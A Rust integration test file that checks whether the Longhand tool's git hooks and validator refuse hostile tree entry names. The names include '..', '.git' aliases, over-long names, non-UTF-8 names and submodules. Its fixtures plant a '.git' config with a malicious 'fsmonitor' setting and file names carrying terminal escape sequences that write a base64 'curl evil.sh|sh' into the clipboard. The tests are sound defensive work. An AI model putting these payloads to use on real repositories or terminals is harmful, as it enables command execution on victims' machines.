//! Hostile entry names and submodules (security issue, point 5), end to end: each tree the
//! review built by hand (`..` and `.git` under `threads/`, names of 300 and 4,000 bytes, a
//! thread directory named `a/b`, a thread name that is not UTF-8, a submodule named like a
//! reply, terminal escapes in a name, an over-long path) is pushed by real git over
//! `file://` to a bare server set up with `longhand hook install --server` (with git's own
//! `receive.fsckObjects` off, so that Longhand's check is what refuses it), and must be
//! refused with LH212; `validate --rev` of the same commit must give the same tree
//! diagnostics, and `render --rev` must not fail to run. The pre-commit hook refuses such a
//! name too, and a clone holding a tree git would not even push (an empty name) is read.

use std::collections::BTreeSet;
use std::fs;
use std::path::{Path, PathBuf};

use crate::raw_tree::{add_entry, commit_tree, RawEntry};
use crate::support::{
    git, git_run_with, id, longhand, ok, reply_md, thread_md, write, Run, CONFIG,
};

const THREAD: &str = "threads/async-standups";

/// A bare server with the server hook installed and git's fsck off, and a clone holding a
/// valid discussion already pushed (ana's thread, jonas's reply with an attachment).
struct Server {
    dir: tempfile::TempDir,
}

impl Server {
    fn new() -> Server {
        let dir = tempfile::tempdir().expect("tempdir");
        let server = Server { dir };
        let bare = server.bare();
        fs::create_dir_all(&bare).expect("mkdir");
        git(&bare, &["init", "-q", "--bare", "-b", "main"]);
        ok(longhand(&bare, &["hook", "install", "--server"]));
        // Longhand's own check must hold without git's (another part of the fix sets it).
        git(&bare, &["config", "receive.fsckObjects", "false"]);
        let url = format!("file://{}", bare.display());
        git(server.dir.path(), &["clone", "-q", &url, "clone"]);
        let clone = server.clone_dir();
        write(&clone.join("longhand.yaml"), CONFIG);
        write(&clone.join(THREAD).join("thread.md"), thread_md(&id(1), ""));
        commit_as(&clone, ("Ana Lima", "ana@example.org"), "start");
        write(
            &clone.join(format!("{THREAD}/{}.md", id(2))),
            reply_md(
                &id(2),
                "",
                &format!("Yes, let us try.\n\n[plan]({}/plan.txt)\n", id(2)),
            ),
        );
        write(&clone.join(THREAD).join(id(2)).join("plan.txt"), "plan\n");
        commit_as(&clone, ("Jonas Weber", "jonas@example.org"), "reply");
        let run = git_run_with(&clone, &["push", "-q", "origin", "HEAD:main"], &[]);
        assert_eq!(run.code, 0, "the seed push failed: {}", run.stderr);
        server
    }

    fn bare(&self) -> PathBuf {
        self.dir.path().join("server.git")
    }

    fn clone_dir(&self) -> PathBuf {
        self.dir.path().join("clone")
    }

    /// A commit on top of the clone's HEAD whose tree has `entry` added in `dir`.
    fn commit_with(&self, dir: &[&[u8]], entry: RawEntry) -> String {
        let clone = self.clone_dir();
        let tree = add_entry(&clone, "HEAD^{tree}", dir, entry);
        commit_tree(&clone, &tree, "HEAD", "hostile tree")
    }

    /// Pushes `commit` to main, insists that the server refused it without moving, and
    /// returns what git showed the pusher.
    fn push_refused(&self, commit: &str) -> String {
        self.push_refused_to("origin", commit)
    }

    /// [`Server::push_refused`] to the remote (a name or a URL) `to`.
    fn push_refused_to(&self, to: &str, commit: &str) -> String {
        let before = git(&self.bare(), &["rev-parse", "refs/heads/main"]);
        let run = git_run_with(
            &self.clone_dir(),
            &["push", to, &format!("{commit}:refs/heads/main")],
            &[],
        );
        assert_ne!(run.code, 0, "the push was accepted:\n{}", run.stderr);
        assert!(
            run.stderr.contains("pre-receive hook declined"),
            "refused by something else than the hook:\n{}",
            run.stderr
        );
        assert_eq!(
            git(&self.bare(), &["rev-parse", "refs/heads/main"]),
            before,
            "the server's branch moved"
        );
        run.stderr
    }

    /// Puts `commit` on the server behind the hook's back (the server fetches it, as an
    /// administrator could have before the hook was installed).
    fn plant_on_server(&self, commit: &str) {
        let clone = self.clone_dir();
        git(&clone, &["update-ref", "refs/hostile/tree", commit]);
        let from = clone.display().to_string();
        git(
            &self.bare(),
            &["fetch", "-q", &from, "refs/hostile/tree:refs/hostile/tree"],
        );
    }

    /// `longhand validate --rev commit --format json` in the clone: exit code and the
    /// (code, path) of every diagnostic.
    fn validate_rev(&self, commit: &str) -> (i32, BTreeSet<(String, String)>) {
        let run = longhand(
            &self.clone_dir(),
            &["validate", "--rev", commit, "--format", "json"],
        );
        assert!(
            run.code == 0 || run.code == 1,
            "could not run: {}",
            run.stderr
        );
        let json: serde_json::Value = serde_json::from_str(&run.stdout).expect("json");
        let found = json["diagnostics"]
            .as_array()
            .expect("diagnostics")
            .iter()
            .map(|d| {
                (
                    d["code"].as_str().expect("code").to_owned(),
                    d["path"].as_str().expect("path").to_owned(),
                )
            })
            .collect();
        (run.code, found)
    }

    /// Pushes `commit`, insists it is refused with LH212 about `path`, and that `validate
    /// --rev` of it reports the same tree rules, LH212 about `path` among them; and that
    /// `render --rev` runs.
    fn refused_like_validate_rev(&self, commit: &str, path: &str) {
        let stderr = self.push_refused(commit);
        let pushed: BTreeSet<String> = codes_in(&stderr)
            .into_iter()
            .filter(|c| !c.starts_with("LH7"))
            .collect();
        assert!(
            pushed.contains("LH212"),
            "no LH212 from the server:\n{stderr}"
        );
        let (code, found) = self.validate_rev(commit);
        assert_eq!(code, 1, "validate --rev passed: {found:?}");
        assert!(
            found.contains(&("LH212".to_owned(), path.to_owned())),
            "validate --rev has no LH212 at {path:?}: {found:?}"
        );
        let validated: BTreeSet<String> = found.iter().map(|(c, _)| c.clone()).collect();
        assert_eq!(
            pushed, validated,
            "the hook and validate --rev disagree:\n{stderr}"
        );
        let out = self.dir.path().join("site");
        let run = longhand(
            &self.clone_dir(),
            &[
                "render",
                "--rev",
                commit,
                "--out",
                &out.display().to_string(),
            ],
        );
        assert_eq!(run.code, 0, "render --rev failed: {}", run.stderr);
    }
}

fn commit_as(dir: &Path, who: (&str, &str), message: &str) {
    git(dir, &["add", "-A"]);
    let run = git_run_with(
        dir,
        &["commit", "-q", "-m", message],
        &[("GIT_AUTHOR_NAME", who.0), ("GIT_AUTHOR_EMAIL", who.1)],
    );
    assert_eq!(run.code, 0, "commit failed: {}", run.stderr);
}

/// The rule codes (`[LH212]`) in what the server printed.
fn codes_in(stderr: &str) -> BTreeSet<String> {
    stderr
        .lines()
        .filter_map(|l| l.strip_prefix("remote: "))
        .flat_map(|l| l.match_indices("[LH").map(move |(at, _)| &l[at + 1..]))
        .filter_map(|rest| rest.get(..5))
        .map(str::to_owned)
        .collect()
}

/// A thread directory holding a valid `thread.md` with the thread id `n`.
fn thread_dir(repo: &Path, name: &[u8], n: usize) -> RawEntry {
    RawEntry::dir(
        repo,
        name,
        vec![RawEntry::file(
            repo,
            b"thread.md",
            thread_md(&id(n), "").as_bytes(),
        )],
    )
}

#[test]
fn push_of_dotdot_entry_under_threads_is_refused() {
    let server = Server::new();
    let clone = server.clone_dir();
    let commit = server.commit_with(&[b"threads"], thread_dir(&clone, b"..", 20));
    server.refused_like_validate_rev(&commit, "threads/..");
}

#[test]
fn push_of_dot_git_entry_under_threads_is_refused_in_any_case_and_alias() {
    let server = Server::new();
    let clone = server.clone_dir();
    for name in [".git", ".GIT", ".git.", "git~1"] {
        let hooks = RawEntry::dir(
            &clone,
            name.as_bytes(),
            vec![RawEntry::file(
                &clone,
                b"config",
                b"[core]\n\tfsmonitor = evil\n",
            )],
        );
        let commit = server.commit_with(&[b"threads"], hooks);
        server.refused_like_validate_rev(&commit, &format!("threads/{name}"));
    }
}

/// An empty name: git will not even pack it for a push ("empty filename in tree entry"),
/// but a clone can hold it, and its readers report it and carry on.
#[test]
fn an_empty_name_under_threads_is_reported_and_readers_carry_on() {
    let server = Server::new();
    let clone = server.clone_dir();
    let commit = server.commit_with(&[b"threads"], RawEntry::file(&clone, b"", b"x\n"));
    let (code, found) = server.validate_rev(&commit);
    assert_eq!(code, 1);
    assert_eq!(
        found.into_iter().collect::<Vec<_>>(),
        vec![("LH212".to_owned(), "threads/".to_owned())]
    );
    let out = server.dir.path().join("site").display().to_string();
    let run = longhand(&clone, &["render", "--rev", &commit, "--out", &out]);
    assert_eq!(run.code, 0, "render --rev failed: {}", run.stderr);
}

#[test]
fn push_of_300_byte_thread_name_is_refused() {
    let server = Server::new();
    let clone = server.clone_dir();
    let name = "a".repeat(300);
    let commit = server.commit_with(&[b"threads"], thread_dir(&clone, name.as_bytes(), 20));
    server.refused_like_validate_rev(&commit, &format!("threads/{name}"));
}

#[test]
fn push_of_4000_byte_name_is_refused() {
    attachment_named_is_refused(&format!("{}.txt", "b".repeat(3996)));
}

/// An attachment of reply 2 named `name` is refused by the push hook as by `validate --rev`.
fn attachment_named_is_refused(name: &str) {
    let server = Server::new();
    let attachment = RawEntry::file(&server.clone_dir(), name.as_bytes(), b"x\n");
    let dir_id = id(2);
    let commit = server.commit_with(
        &[b"threads", b"async-standups", dir_id.as_bytes()],
        attachment,
    );
    server.refused_like_validate_rev(&commit, &format!("{THREAD}/{dir_id}/{name}"));
}

#[test]
fn push_of_thread_dir_named_a_slash_b_is_refused_like_validate_rev() {
    let server = Server::new();
    let clone = server.clone_dir();
    // Its thread.md does not even start with `---`: nothing inside is read.
    let inside = RawEntry::dir(
        &clone,
        b"a/b",
        vec![RawEntry::file(&clone, b"thread.md", b"no frontmatter\n")],
    );
    let commit = server.commit_with(&[b"threads"], inside);
    server.refused_like_validate_rev(&commit, "threads/a/b");
    let (_, found) = server.validate_rev(&commit);
    assert!(
        !found.iter().any(|(c, _)| c == "LH202" || c == "LH104"),
        "the hostile directory was read: {found:?}"
    );
}

#[test]
fn push_of_non_utf8_thread_name_is_refused() {
    let server = Server::new();
    let clone = server.clone_dir();
    let commit = server.commit_with(&[b"threads"], thread_dir(&clone, b"caf\xe9", 20));
    server.refused_like_validate_rev(&commit, "threads/caf\u{fffd}");
}

#[test]
fn push_of_submodule_named_like_a_reply_is_refused() {
    let server = Server::new();
    let clone = server.clone_dir();
    let head = git(&clone, &["rev-parse", "HEAD"]).trim().to_owned();
    let name = format!("{}.md", id(3));
    let submodule = RawEntry::submodule(name.as_bytes(), &head);
    let commit = server.commit_with(&[b"threads", b"async-standups"], submodule);
    server.refused_like_validate_rev(&commit, &format!("{THREAD}/{name}"));
}

#[test]
fn push_of_attachment_named_with_terminal_escapes_is_refused() {
    // OSC 52 (write the clipboard) and clear-screen, as the review planted them.
    attachment_named_is_refused("\u{1b}]52;c;Y3VybCBldmlsLnNofHNo\u{7}\u{1b}[2J.txt");
}

#[test]
fn push_of_path_over_1024_bytes_is_refused() {
    let server = Server::new();
    let clone = server.clone_dir();
    // Five directories of 200 bytes inside an attachment directory: every name fits, the
    // path does not.
    let segment = "d".repeat(200);
    let mut entry = RawEntry::file(&clone, b"deep.txt", b"x\n");
    for _ in 0..5 {
        entry = RawEntry::dir(&clone, segment.as_bytes(), vec![entry]);
    }
    let dir_id = id(2);
    let commit = server.commit_with(&[b"threads", b"async-standups", dir_id.as_bytes()], entry);
    // The first directory whose path is over the limit is reported, and not entered.
    let mut path = format!("{THREAD}/{}", id(2));
    while path.len() <= longhand::load::names::MAX_PATH_BYTES {
        path = format!("{path}/{segment}");
    }
    server.refused_like_validate_rev(&commit, &path);
}

#[test]
fn a_hostile_tree_already_on_the_server_is_reported_by_validate_rev_and_readers_carry_on() {
    let server = Server::new();
    let clone = server.clone_dir();
    let name = "c".repeat(300);
    let commit = server.commit_with(&[b"threads"], thread_dir(&clone, name.as_bytes(), 20));
    server.plant_on_server(&commit);
    let bare = server.bare();
    let run = longhand(&bare, &["validate", "--rev", &commit]);
    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
    assert!(run.stdout.contains("LH212"), "{}", run.stdout);
    let out = server.dir.path().join("site");
    let out = out.display().to_string();
    for args in [
        vec!["render", "--rev", &commit, "--out", &out],
        vec!["digest", "--since", "7d", "--rev", &commit, "--for", "ana"],
    ] {
        let run: Run = longhand(&bare, &args);
        assert_eq!(run.code, 0, "{args:?}: {}", run.stderr);
    }
    // The hostile thread is not rendered; the valid one is.
    let names: Vec<String> = fs::read_dir(server.dir.path().join("site/threads"))
        .expect("threads rendered")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .collect();
    assert!(
        names.iter().any(|n| n.contains("async-standups")),
        "{names:?}"
    );
    assert!(!names.iter().any(|n| n.contains("ccc")), "{names:?}");
}

/// The pre-commit hook judges names with the same check: a file named with terminal
/// escapes, staged in a clone, is refused before it is committed.
#[test]
fn commit_of_a_file_named_with_terminal_escapes_is_refused_by_the_pre_commit_hook() {
    let dir = tempfile::tempdir().expect("tempdir");
    let repo = dir.path().join("repo");
    fs::create_dir_all(&repo).expect("mkdir");
    git(&repo, &["init", "-q", "-b", "main"]);
    write(&repo.join("longhand.yaml"), CONFIG);
    write(&repo.join(THREAD).join("thread.md"), thread_md(&id(1), ""));
    commit_as(&repo, ("Ana Lima", "ana@example.org"), "start");
    ok(longhand(&repo, &["hook", "install"]));
    let name = "notes\u{1b}]52;c;Y3VybCBldmlsLnNofHNo\u{7}.txt";
    write(&repo.join(THREAD).join(name), "x\n");
    git(&repo, &["add", "-A"]);
    let run = git_run_with(&repo, &["commit", "-q", "-m", "escapes"], &[]);
    assert_ne!(run.code, 0, "the commit went ahead: {}", run.stderr);
    let all = format!("{}{}", run.stdout, run.stderr);
    assert!(all.contains("[LH212]"), "{all}");
    assert_eq!(git(&repo, &["rev-list", "--count", "HEAD"]).trim(), "1");
}

#[test]
fn hostile_trees_are_refused_over_git_daemon_too() {
    let server = Server::new();
    let daemon = crate::hooks::Daemon::start(server.dir.path());
    let url = daemon.url("server.git");
    let clone = server.clone_dir();
    for name in [&b".."[..], b".GIT", b"caf\xe9", b"a/b"] {
        let commit = server.commit_with(&[b"threads"], thread_dir(&clone, name, 70));
        let stderr = server.push_refused_to(&url, &commit);
        assert!(codes_in(&stderr).contains("LH212"), "{name:?}: {stderr}");
    }
}
